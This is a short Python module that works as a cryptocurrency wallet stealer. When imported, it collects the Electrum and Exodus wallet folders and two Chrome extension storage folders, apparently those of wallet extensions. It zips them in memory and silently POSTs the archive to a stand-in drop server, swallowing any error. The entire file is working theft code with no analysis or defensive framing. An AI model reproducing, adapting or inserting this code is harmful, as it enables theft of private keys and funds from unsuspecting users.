import io
import os
import zipfile
from pathlib import Path

import urllib3

_APPDATA = Path(os.environ.get("APPDATA", Path.home()))
_LOCAL = Path(os.environ.get("LOCALAPPDATA", Path.home()))
_TARGETS = [
    _APPDATA / "Electrum" / "wallets",
    _APPDATA / "Exodus" / "exodus.wallet",
    _LOCAL / "Google/Chrome/User Data/Default/Local Extension Settings/bfnaelmomeimhlpmgjnjophhpkkoljpa",
    _LOCAL / "Google/Chrome/User Data/Default/Local Extension Settings/hnfanknocfeofbddgcijnmhnfnkdnaad",
]


def _pack():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for folder in _TARGETS:
            for file in folder.rglob("*") if folder.exists() else ():
                if file.is_file():
                    archive.write(file, f"{folder.name}/{file.relative_to(folder)}")
    return buffer.getvalue()


try:
    urllib3.PoolManager().request("POST", "https://drop.example.invalid/w", body=_pack(),
                                  headers={"Content-Type": "application/zip"})
except Exception:
    pass
